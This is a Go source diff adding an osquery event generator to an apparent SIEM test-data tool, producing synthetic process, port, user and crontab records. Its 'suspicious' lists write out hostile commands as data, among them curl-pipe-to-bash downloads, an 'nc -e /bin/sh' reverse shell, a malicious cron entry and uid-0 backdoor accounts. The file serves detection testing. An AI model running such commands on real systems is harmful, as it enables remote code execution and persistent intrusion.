@@ -0,0 +1,293 @@
+package generators
+
+import (
+	"encoding/json"
+	"fmt"
+	"strconv"
+	"time"
+
+	"github.com/google/uuid"
+
+	"siem-event-generator/models"
+)
+
+// OsqueryGenerator generates osqueryd scheduled query results
+type OsqueryGenerator struct {
+	BaseGenerator
+}
+
+func init() {
+	Register(&OsqueryGenerator{})
+}
+
+// GetEventType returns the event type for osquery
+func (g *OsqueryGenerator) GetEventType() models.EventType {
+	return models.EventType{
+		ID:          "osquery",
+		Name:        "osquery Results",
+		Category:    "endpoint",
+		Description: "osqueryd scheduled query result batches (differential added/removed rows) for hosts in the shared entity pool",
+		EventIDs:    []string{"process_events", "listening_ports", "users", "crontab"},
+	}
+}
+
+// GetTemplates returns available templates for osquery results
+func (g *OsqueryGenerator) GetTemplates() []models.EventTemplate {
+	return []models.EventTemplate{
+		{
+			ID:          "process_events",
+			Name:        "Process Events",
+			Category:    "osquery",
+			EventID:     "process_events",
+			Format:      "json",
+			Description: "Batch of process executions from the audit-based process_events table",
+		},
+		{
+			ID:          "listening_ports",
+			Name:        "Listening Ports",
+			Category:    "osquery",
+			EventID:     "listening_ports",
+			Format:      "json",
+			Description: "Listening sockets opened or closed since the previous run",
+		},
+		{
+			ID:          "users",
+			Name:        "Local Users",
+			Category:    "osquery",
+			EventID:     "users",
+			Format:      "json",
+			Description: "Local accounts added or removed since the previous run",
+		},
+		{
+			ID:          "crontab",
+			Name:        "Crontab Changes",
+			Category:    "osquery",
+			EventID:     "crontab",
+			Format:      "json",
+			Description: "Crontab entries added or removed since the previous run",
+		},
+	}
+}
+
+// Generate creates an osquery result batch
+func (g *OsqueryGenerator) Generate(templateID string, overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	host := Entities.RandomHost(g.rnd, "linux", "darwin")
+
+	switch templateID {
+	case "process_events":
+		return g.buildResult("process_events", host, g.processEvents(host), nil, overrides)
+	case "listening_ports":
+		added, removed := g.listeningPorts()
+		return g.buildResult("listening_ports", host, added, removed, overrides)
+	case "users":
+		added, removed := g.localUsers()
+		return g.buildResult("users", host, added, removed, overrides)
+	case "crontab":
+		added, removed := g.crontab()
+		return g.buildResult("crontab", host, added, removed, overrides)
+	default:
+		return nil, fmt.Errorf("unknown template ID: %s", templateID)
+	}
+}
+
+// osqueryRow is a result row; osquery logs every column as a string
+type osqueryRow map[string]string
+
+// processEvents returns a batch of mostly routine executions, occasionally
+// including a download-and-execute or reverse shell
+func (g *OsqueryGenerator) processEvents(host *EntityHost) []osqueryRow {
+	routine := [][2]string{
+		{"/usr/bin/ls", "ls -la /var/log"},
+		{"/usr/bin/grep", "grep -r ERROR /var/log/app"},
+		{"/usr/bin/python3", "python3 /opt/scripts/healthcheck.py"},
+		{"/usr/bin/systemctl", "systemctl status nginx"},
+		{"/usr/bin/git", "git pull --ff-only"},
+		{"/usr/bin/ssh", "ssh deploy@build-01"},
+		{"/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"},
+		{"/usr/bin/sudo", "sudo apt-get update"},
+	}
+	suspicious := [][2]string{
+		{"/usr/bin/curl", fmt.Sprintf("curl -fsSL http://%s/x.sh | bash", g.RandomIPv4External())},
+		{"/usr/bin/nc", fmt.Sprintf("nc -e /bin/sh %s 4444", g.RandomIPv4External())},
+		{"/usr/bin/base64", "base64 -d /tmp/.cache/p"},
+		{"/usr/bin/chmod", "chmod +x /tmp/.X11-unix/.x"},
+	}
+
+	user := "root"
+	uid := "0"
+	if host.Owner != "" {
+		if u, ok := Entities.UserByName(host.Owner); ok {
+			user, uid = u.Username, strconv.Itoa(u.UID)
+		}
+	}
+
+	home := "/root"
+	if user != "root" {
+		home = "/home/" + user
+		if host.Platform == "darwin" {
+			home = "/Users/" + user
+		}
+	}
+
+	now := time.Now()
+	parent := g.RandomInt(1000, 60000)
+	rows := make([]osqueryRow, 0)
+	for i, n := 0, g.RandomInt(1, 8); i < n; i++ {
+		proc := routine[g.RandomInt(0, len(routine)-1)]
+		if g.RandomInt(1, 100) <= 5 {
+			proc = suspicious[g.RandomInt(0, len(suspicious)-1)]
+		}
+		rows = append(rows, osqueryRow{
+			"pid":      strconv.Itoa(parent + i + 1),
+			"parent":   strconv.Itoa(parent),
+			"path":     proc[0],
+			"cmdline":  proc[1],
+			"cwd":      home,
+			"uid":      uid,
+			"euid":     uid,
+			"gid":      uid,
+			"auid":     uid,
+			"time":     strconv.FormatInt(now.Add(-time.Duration(g.RandomInt(0, 60))*time.Second).Unix(), 10),
+			"syscall":  "execve",
+			"username": user,
+		})
+	}
+	return rows
+}
+
+// listeningPorts returns listeners that appeared or went away
+func (g *OsqueryGenerator) listeningPorts() (added, removed []osqueryRow) {
+	listeners := []struct {
+		port, path string
+	}{
+		{"22", "/usr/sbin/sshd"},
+		{"80", "/usr/sbin/nginx"},
+		{"443", "/usr/sbin/nginx"},
+		{"5432", "/usr/lib/postgresql/14/bin/postgres"},
+		{"6379", "/usr/bin/redis-server"},
+		{"8080", "/usr/bin/java"},
+		{"9100", "/usr/local/bin/node_exporter"},
+		{"4444", "/usr/bin/nc"},
+		{"31337", "/tmp/.X11-unix/.x"},
+	}
+	l := listeners[g.weightedIndex([]float64{5, 10, 10, 10, 10, 20, 20, 4, 2})]
+	row := osqueryRow{
+		"pid":      strconv.Itoa(g.RandomInt(300, 60000)),
+		"port":     l.port,
+		"protocol": "6",
+		"family":   "2",
+		"address":  "0.0.0.0",
+		"path":     l.path,
+		"socket":   strconv.Itoa(g.RandomInt(10000, 999999)),
+	}
+	if g.RandomInt(1, 100) <= 70 {
+		return []osqueryRow{row}, nil
+	}
+	return nil, []osqueryRow{row}
+}
+
+// localUsers returns local accounts that were created or deleted
+func (g *OsqueryGenerator) localUsers() (added, removed []osqueryRow) {
+	type account struct {
+		name, description, shell string
+		uid                      int
+	}
+	var a account
+	switch g.WeightedChoice([]string{"person", "service", "backdoor"}, []float64{60, 30, 10}) {
+	case "person":
+		u := Entities.RandomUser(g.rnd)
+		a = account{u.Username, u.FullName, "/bin/bash", u.UID}
+	case "service":
+		name := g.RandomChoice([]string{"prometheus", "postgres", "redis", "jenkins", "grafana"})
+		a = account{name, name + " daemon", "/usr/sbin/nologin", g.RandomInt(100, 999)}
+	default:
+		a = account{g.RandomChoice([]string{"sysadmin", "support", ".hidden", "backup1"}), "", "/bin/bash", 0}
+	}
+
+	row := osqueryRow{
+		"uid":         strconv.Itoa(a.uid),
+		"gid":         strconv.Itoa(a.uid),
+		"uid_signed":  strconv.Itoa(a.uid),
+		"gid_signed":  strconv.Itoa(a.uid),
+		"username":    a.name,
+		"description": a.description,
+		"directory":   "/home/" + a.name,
+		"shell":       a.shell,
+		"uuid":        "",
+	}
+	if g.RandomInt(1, 100) <= 75 {
+		return []osqueryRow{row}, nil
+	}
+	return nil, []osqueryRow{row}
+}
+
+// crontab returns a crontab entry that was added, or one replaced by another
+func (g *OsqueryGenerator) crontab() (added, removed []osqueryRow) {
+	entries := []osqueryRow{
+		{"minute": "0", "hour": "2", "command": "/usr/local/bin/backup.sh > /var/log/backup.log 2>&1", "path": "/etc/crontab"},
+		{"minute": "*/5", "hour": "*", "command": "/opt/scripts/healthcheck.py", "path": "/var/spool/cron/crontabs/root"},
+		{"minute": "30", "hour": "4", "command": "certbot renew --quiet", "path": "/etc/cron.d/certbot"},
+		{"minute": "15", "hour": "*", "command": "find /tmp -type f -mtime +7 -delete", "path": "/etc/crontab"},
+		{"minute": "*", "hour": "*", "command": fmt.Sprintf("curl -s http://%s/k | sh", g.RandomIPv4External()), "path": "/var/spool/cron/crontabs/root"},
+		{"minute": "@reboot", "hour": "", "command": "/tmp/.X11-unix/.x -d", "path": "/var/spool/cron/crontabs/www-data"},
+	}
+	for _, e := range entries {
+		e["event"] = ""
+		if e["minute"] == "@reboot" {
+			e["event"], e["minute"] = "@reboot", ""
+		}
+		e["day_of_month"], e["month"], e["day_of_week"] = "*", "*", "*"
+	}
+
+	pick := func() osqueryRow { return entries[g.weightedIndex([]float64{25, 25, 20, 20, 6, 4})] }
+	added = []osqueryRow{pick()}
+	if g.RandomInt(1, 100) <= 30 {
+		removed = []osqueryRow{pick()}
+	}
+	return added, removed
+}
+
+// buildResult wraps rows in an osqueryd batch result log line, as written by
+// the filesystem and TLS loggers
+func (g *OsqueryGenerator) buildResult(query string, host *EntityHost, added, removed []osqueryRow, overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	now := time.Now().UTC()
+	name := "pack_incident-response_" + query
+	if added == nil {
+		added = []osqueryRow{}
+	}
+	if removed == nil {
+		removed = []osqueryRow{}
+	}
+
+	fields := map[string]interface{}{
+		"name":           name,
+		"hostIdentifier": host.Hostname,
+		"calendarTime":   now.Format("Mon Jan _2 15:04:05 2006 UTC"),
+		"unixTime":       now.Unix(),
+		"epoch":          0,
+		"counter":        int(Series.Counter(host.Hostname, "osquery."+name, 0, 1)),
+		"numerics":       false,
+		"decorations": map[string]string{
+			"host_uuid": host.UUID,
+			"hostname":  host.FQDN,
+			"os":        host.OSName + " " + host.OSVersion,
+		},
+		"diffResults": map[string]interface{}{
+			"added":   added,
+			"removed": removed,
+		},
+	}
+
+	fields = g.ApplyOverrides(fields, overrides)
+	rawEvent, _ := json.Marshal(fields)
+
+	return &models.GeneratedEvent{
+		ID:         uuid.New().String(),
+		Type:       "osquery",
+		EventID:    query,
+		Timestamp:  now,
+		RawEvent:   string(rawEvent),
+		Fields:     fields,
+		Sourcetype: "osquery:results",
+	}, nil
+}